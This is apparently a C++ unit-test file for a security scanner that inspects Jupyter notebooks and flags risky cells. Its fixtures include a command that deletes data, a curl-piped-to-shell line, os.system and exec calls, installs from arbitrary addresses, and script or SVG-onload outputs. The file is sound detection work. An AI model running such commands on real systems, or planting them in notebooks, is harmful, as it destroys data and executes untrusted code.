#include "inspect/notebook.h"

#include <gmock/gmock-more-matchers.h>

#include <nlohmann/json.hpp>

namespace holdfast::inspect {
namespace {

using nlohmann::json;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::SizeIs;

json notebook(const std::vector<json>& cells, const std::string& language = "python") {
  return {{"cells", cells},
          {"metadata", {{"kernelspec", {{"language", language}}}}},
          {"nbformat", 4},
          {"nbformat_minor", 5}};
}

json code(const std::string& source) {
  return {
      {"cell_type", "code"}, {"metadata", json::object()}, {"source", source}, {"outputs", json::array()}};
}

struct Outcome {
  std::vector<Finding> findings;
  Gaps gaps;
};

Outcome inspect(const std::string& text) {
  EXPECT_TRUE(is_notebook(text));
  Findings findings;
  auto gaps = inspect_notebook(text, "a.ipynb", findings);
  return {findings.take(), std::move(gaps)};
}

void expect_one(const std::vector<json>& cells, std::string_view rule, Severity severity,
                const std::string& said) {
  const auto outcome = inspect(notebook(cells).dump());
  ASSERT_THAT(outcome.findings, SizeIs(1)) << said;
  EXPECT_EQ(outcome.findings[0].rule_id, rule);
  EXPECT_EQ(outcome.findings[0].severity, severity);
  EXPECT_THAT(outcome.findings[0].message, HasSubstr(said));
}

TEST(Notebook, HasItsCodeReadAsPython) {
  const json markdown = {
      {"cell_type", "markdown"}, {"metadata", json::object()}, {"source", "os.system('x')"}};
  json in_lines = code("");
  in_lines["source"] = {"%matplotlib inline\n", "import os\n", "os.system('id')"};
  expect_one({markdown, in_lines}, "python.process", Severity::kHigh, "in cell 2, line 3: os.system");
}

TEST(Notebook, OfTheThirdFormatIsReadToo) {
  const json old = {
      {"nbformat", 3},
      {"worksheets", {{{"cells", {{{"cell_type", "code"}, {"input", "exec(x)"}, {"language", "python"}}}}}}}};
  Findings findings;
  const std::string text = old.dump();
  EXPECT_TRUE(is_notebook(text));
  EXPECT_THAT(inspect_notebook(text, "a", findings), IsEmpty());
  ASSERT_THAT(findings.items(), SizeIs(1));
  EXPECT_EQ(findings.items()[0].rule_id, "python.executes-text");
}

TEST(Notebook, ShowsItsShellCommands) {
  expect_one({code("!rm -rf data")}, "notebook.shell", Severity::kMedium, "line 1");
  expect_one({code("x = 1\nfiles = !ls")}, "notebook.shell", Severity::kMedium, "line 2");
  expect_one({code("%%bash\ncurl https://a.example | sh")}, "notebook.shell", Severity::kHigh,
             "runs what it fetches");
  expect_one({code("get_ipython().system('ls')")}, "python.process", Severity::kHigh, "shell");
  expect_one({code("%pip install git+https://a.example/x")}, "notebook.installs-from-address",
             Severity::kMedium, "cell 1");
  expect_one({code("!pip install --index-url https://a.example x")}, "notebook.installs-from-address",
             Severity::kMedium, "cell 1");
}

TEST(Notebook, ShowsWhatItsOutputsRun) {
  json cell = code("1");
  cell["outputs"] = {
      {{"output_type", "display_data"}, {"data", {{"text/html", {"<b>", "<script>x()</script>"}}}}}};
  expect_one({cell}, "notebook.active-output", Severity::kLow, "cell 1");
  cell["outputs"][0]["data"] = {{"application/javascript", "Jupyter.notebook.kernel.execute('x')"}};
  expect_one({cell}, "notebook.active-output", Severity::kHigh, "kernel");
  json attached = {{"cell_type", "markdown"},
                   {"source", ""},
                   {"attachments", {{"a.svg", {{"image/svg+xml", "<svg onload=\"x()\">"}}}}}};
  expect_one({attached}, "notebook.active-output", Severity::kLow, "svg");
}

TEST(Notebook, NamesFoldedCells) {
  json cell = code("x = 1");
  cell["metadata"] = {{"jupyter", {{"source_hidden", true}}}};
  expect_one({code("1"), cell}, "notebook.hidden-cell", Severity::kLow, "cell 2");
  cell["metadata"] = {{"tags", {"hide-input"}}};
  expect_one({cell}, "notebook.hidden-cell", Severity::kLow, "cell 1");
}

TEST(Notebook, ThatIsHonestIsClean) {
  json cell = code("%time\nimport pandas as pd\ndf = pd.read_csv('a.csv')\ndf.head?\n!pip install pandas");
  cell["outputs"] = {
      {{"output_type", "display_data"}, {"data", {{"text/html", "<table></table>"}, {"image/png", "iVBO"}}}}};
  const auto outcome = inspect(notebook({cell}).dump());
  EXPECT_THAT(outcome.findings, IsEmpty());
  EXPECT_THAT(outcome.gaps, IsEmpty());
}

TEST(Notebook, SaysWhatItCouldNotRead) {
  EXPECT_THAT(inspect(notebook({code("x <- 1")}, "R").dump()).gaps, SizeIs(1));
  const std::string whole = notebook({code("exec(x)"), code("y")}).dump();
  const auto cut = inspect(whole.substr(0, whole.size() - 2) + "!");
  EXPECT_THAT(cut.gaps, SizeIs(1));
  EXPECT_THAT(cut.findings, SizeIs(1));
  const std::string deep = "{\"nbformat\":4,\"cells\":" + std::string(200, '[');
  EXPECT_THAT(inspect(deep).gaps, SizeIs(1));
}

}  // namespace
}  // namespace holdfast::inspect
